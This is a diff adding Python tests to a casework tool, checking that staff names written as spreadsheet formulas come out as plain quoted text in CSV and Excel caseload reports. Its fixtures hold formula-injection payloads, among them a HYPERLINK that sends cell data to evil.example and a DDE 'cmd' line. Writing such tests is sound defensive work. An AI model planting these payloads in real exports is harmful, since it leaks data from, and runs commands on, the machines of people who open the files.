@@ -80,3 +80,64 @@ def test_the_sample_calendar_holds_no_name_and_no_record_text(tmp_path: Path,
     # each event still says which case and what to do, from the policy
     assert "SUMMARY:V-0009: Give the victim the update on the child's progress" in calendar
     assert "Wokingham 5" in calendar
+
+
+# --- spreadsheets: a formula in a name is text ------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+"""The issue's reproduction: a worker named as a live formula."""
+OTHER_FORMULAS = ("@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3")
+
+
+@pytest.fixture
+def formula_book(casebook: CasebookUnderTest) -> CasebookUnderTest:
+    """Staff named as formulas, one owning the fixture victim (a hand edit: the form
+    a teammate's sync or an editor can bring)."""
+    for name in (FORMULA, *OTHER_FORMULAS):
+        result = casebook.run("staff", "add", "--role", "rj-worker", "--", name)
+        assert result.exit_code == 0, result.output
+    text = casebook.text(casebook.victim)
+    assert "worker: Sam Worker" in text
+    casebook.write(casebook.victim, text.replace(
+        "worker: Sam Worker", "worker: '" + FORMULA.replace("'", "''") + "'"))
+    return casebook
+
+
+def test_a_formula_in_a_name_is_text_in_the_csv_report(formula_book: CasebookUnderTest,
+                                                        tmp_path: Path) -> None:
+    import csv
+
+    target = tmp_path / "caseload.csv"
+    result = formula_book.run("report", "caseload", "--format", "csv", "--out", str(target))
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(target.open(encoding="utf-8", newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + FORMULA in cells  # shown as written, starting with a quote
+    for formula in OTHER_FORMULAS:
+        assert "'" + formula in cells
+    live = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
+            or (c.startswith("-") and not re.fullmatch(r"-|-\d+(\.\d+)?%?", c))]
+    assert live == []
+    # rj's own figures stay as they were: counts are numbers, a figure not shown is "-"
+    values = [row[6] for row in rows[1:]]
+    assert "-" in values and all(re.fullmatch(r"-|<5|\d+(\.\d+)?%?", v) for v in values)
+
+
+def test_a_formula_in_a_name_is_text_in_the_excel_report(formula_book: CasebookUnderTest,
+                                                          tmp_path: Path) -> None:
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    target = tmp_path / "caseload.xlsx"
+    result = formula_book.run("report", "caseload", "--format", "xlsx", "--out", str(target))
+    assert result.exit_code == 0, result.output
+    with zipfile.ZipFile(target) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist()
+                  if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula cell
+    book = load_workbook(target)
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    formula_cells = [c for c in cells if c.value == FORMULA]
+    assert formula_cells and all(c.data_type == "s" and c.quotePrefix for c in formula_cells)
+    assert any(isinstance(c.value, int) for c in cells)  # counts are still numbers
